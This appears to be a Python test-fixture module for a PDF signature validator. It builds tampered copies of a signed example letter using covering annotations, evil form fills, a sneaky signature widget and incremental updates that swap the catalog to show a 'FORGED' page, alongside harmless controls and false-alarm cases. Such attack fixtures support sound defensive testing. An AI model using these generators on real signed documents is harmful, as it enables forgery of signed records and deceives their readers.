MARGIN_BOX = (440.0, 20.0, 560.0, 50.0)
"""The example letter's blank bottom margin (page 1)."""
COVER_TEXT = "DIBATALKAN"
"""What the covering annotation says."""


def _opaque_appearance(
    writer: IncrementalPdfFileWriter, box: tuple[float, ...], text: str = COVER_TEXT
) -> Any:
    """A form XObject the size of ``box``: a white rectangle with red text on it."""
    w, h = box[2] - box[0], box[3] - box[1]
    ops = f"1 1 1 rg 0 0 {w} {h} re f 0.8 0 0 rg BT /F1 28 Tf 12 {h / 2 - 10} Td ({text}) Tj ET"
    return _stream(
        writer,
        ops.encode(),
        Type=pdf_name("/XObject"),
        Subtype=pdf_name("/Form"),
        BBox=_rect((0, 0, w, h)),
        Resources=generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): _helvetica(writer)})}
        ),
    )


def _add_annot(
    src: Path,
    dst: Path,
    *,
    subtype: str = "/Square",
    box: tuple[float, ...] = BODY_BOX,
    appearance_box: tuple[float, ...] | None = None,
    flags: int = 4,
    **extra: Any,
) -> None:
    """Append an annotation with an opaque appearance to page 1 in an incremental update."""
    writer = _open(src)
    page_ref, page = _page(writer)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): _rect(box),
            pdf_name("/F"): generic.NumberObject(flags),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _opaque_appearance(writer, appearance_box or box)}
            ),
        }
    )
    for key, value in extra.items():
        annot[pdf_name(f"/{key}")] = value
    annots = page.get("/Annots") or generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annots, writer.add_object(annot)])
    writer.update_container(page)
    _save(writer, dst)


def cover_with_opaque_square(src: Path, dst: Path) -> None:
    """Evil Annotation: a Square annotation whose own appearance (white fill, "DIBATALKAN")
    covers the body text of page 1."""
    _add_annot(src, dst)


def cover_with_hidden_square(src: Path, dst: Path) -> None:
    """The same square, flagged Hidden: no reader shows it (harmless)."""
    _add_annot(src, dst, flags=2)


def cover_with_transparent_square(src: Path, dst: Path) -> None:
    """The same square at opacity 0 (/CA 0): drawn fully transparent (harmless)."""
    _add_annot(src, dst, CA=generic.FloatObject(0))


def cover_with_zero_size_square(src: Path, dst: Path) -> None:
    """The same appearance squeezed into a zero-size rectangle: nothing is drawn."""
    x, y = BODY_BOX[0], BODY_BOX[1]
    _add_annot(src, dst, box=(x, y, x, y), appearance_box=BODY_BOX)


def note_in_the_margin(src: Path, dst: Path) -> None:
    """A visible stamp annotation in the blank bottom margin: covers nothing signed."""
    _add_annot(src, dst, subtype="/Stamp", box=MARGIN_BOX)


def cover_with_free_text(src: Path, dst: Path) -> None:
    """A FreeText annotation without an appearance stream over the body text: readers draw
    its /Contents from /DA."""
    writer = _open(src)
    page_ref, page = _page(writer)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _rect(BODY_BOX),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Contents"): generic.TextStringObject(COVER_TEXT),
            pdf_name("/DA"): generic.TextStringObject("/Helv 28 Tf 1 0 0 rg"),
            pdf_name("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3),
            pdf_name("/P"): page_ref,
        }
    )
    annots = page.get("/Annots") or generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annots, writer.add_object(annot)])
    writer.update_container(page)
    _save(writer, dst)


def sneaky_signature_field(src: Path, dst: Path) -> None:
    """Sneaky Signature: an (unsigned) signature field whose widget appearance covers the
    body text, added in an incremental update as a later signer would add one."""
    writer = _open(src)
    page_ref, page = _page(writer)
    widget = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): generic.TextStringObject("Paraf2"),
            pdf_name("/Rect"): _rect(BODY_BOX),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _opaque_appearance(writer, BODY_BOX)}
            ),
        }
    )
    ref = writer.add_object(widget)
    annots = page.get("/Annots") or generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annots, ref])
    writer.update_container(page)
    form = writer.root.get("/AcroForm")
    if form is None:
        form = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
        writer.root[pdf_name("/AcroForm")] = writer.add_object(form)
        writer.update_root()
    form = form.get_object() if hasattr(form, "get_object") else form
    form[pdf_name("/Fields")] = generic.ArrayObject([*form.get("/Fields", ()), ref])
    container = writer.root.raw_get("/AcroForm")
    if isinstance(container, generic.IndirectObject):
        writer.mark_update(container)
    else:
        writer.update_root()
    _save(writer, dst)


# --- hiding an update from the analysis -----------------------------------------------------

FORGED_TEXT = "FORGED"


def deep_nesting_forgery(src: Path, dst: Path, *, depth: int) -> None:
    """Replace page 1's content with "FORGED" and add an array nested ``depth`` levels deep
    to the page, in one raw incremental update (classic xref)."""
    data = src.read_bytes()
    reader = PdfFileReader(_bytes_io(data), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    size, root, prev = _trailer_facts(data)
    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
    content_num = size
    keys = []
    for key in page:
        if key in ("/Contents",):
            continue
        value = page.raw_get(key)
        keys.append(f"{key} {_pdf_text(value)}")
    nest = "[" * depth + "0" + "]" * depth
    page_body = "<< " + " ".join(keys) + f" /Contents {content_num} 0 R /Nest {nest} >>"
    out = bytearray(data)
    out += b"\n"
    offsets = {}
    offsets[content_num] = len(out)
    out += _raw_stream(content_num, 0, ops)
    offsets[page_ref.idnum] = len(out)
    out += f"{page_ref.idnum} {page_ref.generation} obj\n{page_body}\nendobj\n".encode()
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        gen = page_ref.generation if num == page_ref.idnum else 0
        out += b"%d 1\n%010d %05d n \n" % (num, offsets[num], gen)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + 1,
        root,
        prev,
        xref_at,
    )
    dst.write_bytes(bytes(out))


def _pdf_text(value: Any) -> str:
    """A pyHanko object written back as PDF syntax."""
    import io

    buf = io.BytesIO()
    value.write_to_stream(buf)
    return buf.getvalue().decode("latin-1")


def empty_xref_new_root(src: Path, dst: Path) -> None:
    """ISA variant (item 5): the update's cross-reference section lists nothing, but its
    trailer names a new catalog, page tree and page (with "FORGED" text) appended before it.
    A viewer that cannot find the new /Root rebuilds the cross-reference table and shows
    the forged page."""
    data = src.read_bytes()
    reader = PdfFileReader(_bytes_io(data), strict=False)
    page = reader.root["/Pages"].raw_get("/Kids")[0].get_object()
    size, _root, prev = _trailer_facts(data)
    cat, pages, pg, content = size, size + 1, size + 2, size + 3
    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
    resources = _pdf_text(page.raw_get("/Resources"))
    out = bytearray(data) + b"\n"
    out += f"{cat} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R >>\nendobj\n".encode()
    out += f"{pages} 0 obj\n<< /Type /Pages /Kids [{pg} 0 R] /Count 1 >>\nendobj\n".encode()
    out += (
        f"{pg} 0 obj\n<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] "
        f"/Resources {resources} /Contents {content} 0 R >>\nendobj\n"
    ).encode()
    out += _raw_stream(content, 0, ops)
    xref_at = len(out)
    out += (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n"
        b"<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size + 4,
            cat,
            prev,
            xref_at,
        )
    )
    dst.write_bytes(bytes(out))


def prepare_alternative_catalog(letter: Path, dst: Path) -> None:
    """The harmless-looking original for :func:`empty_xref_switch_root`: the letter plus an
    unreferenced second catalog, page tree and page (with "FORGED" text) that no reader
    shows, because the trailer does not name that catalog."""
    writer = _open(letter)
    _, page = _page(writer)
    ops = f"BT /F1 24 Tf 72 720 Td ({FORGED_TEXT}) Tj ET".encode()
    pages = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(1)}
    )
    pages_ref = writer.add_object(pages)
    forged = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): pages_ref,
            pdf_name("/MediaBox"): _rect((0, 0, 595, 842)),
            pdf_name("/Resources"): page.raw_get("/Resources"),
            pdf_name("/Contents"): _stream(writer, ops),
        }
    )
    pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(forged)])
    # An empty signature field for the signer to fill, shared by both catalogs, so the
    # signature is still listed after the switch.
    page_ref, page = _page(writer)
    field = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject("Signature1"),
                pdf_name("/Rect"): _rect((0, 0, 0, 0)),
                pdf_name("/F"): generic.NumberObject(132),
                pdf_name("/P"): page_ref,
            }
        )
    )
    page["/Annots"] = generic.ArrayObject([*(page.get("/Annots") or ()), field])
    writer.update_container(page)
    form = writer.add_object(
        generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([field])})
    )
    writer.root[pdf_name("/AcroForm")] = form
    writer.update_root()
    writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Catalog"),
                pdf_name("/Pages"): pages_ref,
                pdf_name("/AcroForm"): form,
                pdf_name("/EsignTestAlternative"): generic.BooleanObject(True),
            }
        )
    )
    _save(writer, dst)


def empty_xref_switch_root(src: Path, dst: Path) -> None:
    """ISA variant (item 5): an update whose cross-reference section lists no object at all
    (only the free head of the list), while its trailer names the prepared second catalog
    as /Root: every reader now shows the forged page."""
    data = src.read_bytes()
    found = re.search(rb"(\d+) (\d+) obj\s*<<[^>]*/EsignTestAlternative true", data)
    if found is None:
        found = re.search(
            rb"(\d+) (\d+) obj\s*<<(?:(?!endobj).)*?/EsignTestAlternative", data, re.S
        )
    assert found is not None, "prepare_alternative_catalog was not applied"
    size, _root, prev = _trailer_facts(data)
    xref_at = len(data) + 1
    tail = b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %s %s R /Prev %d >>\n" % (
        size,
        found.group(1),
        found.group(2),
        prev,
    )
    dst.write_bytes(data + tail + b"startxref\n%d\n%%%%EOF\n" % xref_at)


# --- legitimate updates other tools make (false alarms, issue 11) ----------------------------

CHOICE_PROMPT = "Pilih bagian:"
"""The default entry of the choice field: the form as issued asks the reader to choose."""
CHOICE_PICKED = "Bidang TIK"


def prepare_default_choice_field(
    letter: Path, dst: Path, *, value: str = CHOICE_PROMPT, default: str | None = CHOICE_PROMPT
) -> None:
    """A form with a combo box "bagian" showing its default entry ``value`` (the form as
    issued, like DSS's pades-signed-filled-form.pdf); ``default`` is its /DV (None: none)."""
    writer = _open(letter)
    page_ref, page = _page(writer)
    font = _helvetica(writer)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Ch"),
            pdf_name("/Ff"): generic.NumberObject(1 << 17),  # Combo
            pdf_name("/T"): generic.TextStringObject("bagian"),
            pdf_name("/Opt"): generic.ArrayObject(
                [generic.TextStringObject(o) for o in (CHOICE_PROMPT, "Sekretariat", CHOICE_PICKED)]
            ),
            pdf_name("/V"): generic.TextStringObject(value),
            pdf_name("/I"): generic.ArrayObject([generic.NumberObject(0)]),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect(MARGIN_BOX_FIELD),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _appearance(writer, _text_ops(value, white_box=True), font)}
            ),
        }
    )
    if default is not None:
        field[pdf_name("/DV")] = generic.TextStringObject(default)
    field_ref = writer.add_object(field)
    page["/Annots"] = generic.ArrayObject([field_ref])
    writer.update_container(page)
    writer.root["/AcroForm"] = generic.DictionaryObject(
        {
            pdf_name("/Fields"): generic.ArrayObject([field_ref]),
            pdf_name("/DR"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
            ),
        }
    )
    writer.update_root()
    _save(writer, dst)


MARGIN_BOX_FIELD = (60.0, 560.0, 420.0, 590.0)
"""Where the choice field sits on the example letter (page 1)."""


def choose_in_field(src: Path, dst: Path, *, value: str = CHOICE_PICKED, **also: Any) -> None:
    """Form filling: pick ``value`` in "bagian" (new /V, /I and appearance); ``also``: other
    keys of the field rewritten at the same time (e.g. Rect, to move it)."""
    writer = _open(src)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    fonts = writer.root["/AcroForm"]["/DR"]["/Font"]
    field["/V"] = generic.TextStringObject(value)
    field["/I"] = generic.ArrayObject([generic.NumberObject(2)])
    field["/AP"] = generic.DictionaryObject(
        {
            pdf_name("/N"): _appearance(
                writer, _text_ops(value, white_box=True), fonts.raw_get("/F1")
            )
        }
    )
    for key, item in also.items():
        field[pdf_name(f"/{key}")] = item
    writer.update_container(field)
    _save(writer, dst)


def _raw_update(src: Path, dst: Path, xref_entries: bytes, *, size: int | None = None) -> None:
    """Append an update with no objects whose cross-reference section is ``xref_entries``."""
    data = src.read_bytes()
    old_size, root, prev = _trailer_facts(data)
    xref_at = len(data) + 1
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size or old_size,
        root,
        prev,
        xref_at,
    )
    dst.write_bytes(data + b"\nxref\n" + xref_entries + trailer)


def relist_free_object_numbers(src: Path, dst: Path) -> None:
    """What iText does: an update that lists object numbers as free that were never in use
    (here the next unused number), removing nothing."""
    size, _root, _prev = _trailer_facts(src.read_bytes())
    _raw_update(src, dst, b"%d 1\n0000000000 00001 f \n" % size, size=size + 1)


def free_object_in_use(src: Path, dst: Path) -> None:
    """An update that frees page 1's content stream, which was in use when signed."""
    num, gen = _content_ref(src.read_bytes())
    _raw_update(src, dst, b"0 1\n0000000000 65535 f \n%d 1\n0000000000 %05d f \n" % (num, gen + 1))


def fill_empty_field_and_move_it(src: Path, dst: Path) -> None:
    """Evil form fill: "fill in" the empty field "catatan" and move it over the body text
    with an opaque appearance ("DIBATALKAN")."""
    writer = _open(src)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/V"] = generic.TextStringObject(COVER_TEXT)
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): _opaque_appearance(writer, BODY_BOX)})
    field["/Rect"] = _rect(BODY_BOX)
    writer.update_container(field)
    _save(writer, dst)


def fill_empty_field_opaquely(src: Path, dst: Path) -> None:
    """Evil form fill in place: the empty field "catatan" lies over signed text (drawing
    nothing when signed); it is "filled in" with an opaque white box that hides that text."""
    writer = _open(src)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/V"] = generic.TextStringObject(COVER_TEXT)
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): _opaque_appearance(writer, _BOX)})
    writer.update_container(field)
    _save(writer, dst)
